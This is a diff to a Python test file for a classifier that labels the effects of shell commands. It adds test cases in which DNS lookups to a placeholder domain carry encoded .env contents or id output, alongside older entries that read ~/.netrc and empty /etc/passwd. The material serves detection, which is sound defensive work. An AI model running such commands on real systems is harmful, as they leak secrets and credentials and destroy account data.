@@ -62,6 +62,7 @@ SCRIPTS: dict[str, tuple[str, set[str], set[str]]] = {
         {"runs:temporary"},
     ),
     "a hidden program that was built there": ("go build -o /tmp/.x . && /tmp/.x", {"runs:temporary"}, set()),
+    "a main program of a directory": ("python /tmp", {"runs:scratch"}, {"runs:temporary"}),
     "a hidden program": ("find . -exec /srv/.a ;", {"runs:temporary"}, set()),
     "a key in a variable": ("K=$(cat ~/.netrc) x", {"keeps:credentials"}, {"reads:credentials"}),
     "a file that is emptied": ("> /etc/passwd", {"writes:accounts"}, set()),
@@ -204,3 +205,32 @@ def test_a_home_that_goes_to_a_store_is_sent() -> None:
     """What comes from there does not."""
     assert "sends:home" in effects(read_script("aws s3 sync ~ s3://bucket"), VOCABULARY)
     assert "sends:home" not in effects(read_script("aws s3 sync s3://bucket /data"), VOCABULARY)
+
+
+LABELS = {
+    "what a loop reads": ("base32 .env | while read l; do host $l.d.example.com; done", True),
+    "what a loop reads, in capitals": ("while read L; do ping $L.d.example.com; done < .env", True),
+    "what a loop goes over": ("for l in $(id); do dig $l.d.example.com; done", True),
+    "what a command prints": ("getent hosts $(hostname).d.example.com", True),
+    "what was kept": ("x=$(id | base32); nslookup a-$x.d.example.com", True),
+    "what fills a vector": ("cat /srv/x | xargs -I{} host {}.d.example.com", True),
+    "a function's parameter": ("f() { host $1.d.example.com; }; f $(id)", True),
+    "a host of the entry": ("until getent hosts $DB_HOST.example.com; do sleep 1; done", False),
+    "a host in full": ("ping -c1 db.example.com", False),
+    "hosts of a list": ("for h in a b; do host $h.example.com; done", False),
+    "a neighbour": ("host $(hostname).internal", False),
+}
+
+
+@pytest.mark.parametrize(("script", "talks"), LABELS.values(), ids=LABELS.keys())
+def test_a_name_that_is_asked_for_carries_what_was_put_into_it(script: str, talks: bool) -> None:
+    """Whoever answers for the domain reads it, whichever program asks."""
+    found = effects(read_script(script), VOCABULARY)
+    assert ({"shell:talks", "sends"} <= found) is talks
+
+
+def test_a_name_is_put_together_without_a_shell_too() -> None:
+    """A vector may have another one filled in."""
+    assert "alone:talks" in effects(
+        read_argv(["xargs", "-a", "/srv/x", "-I{}", "host", "{}.d.example.com"]), VOCABULARY
+    )
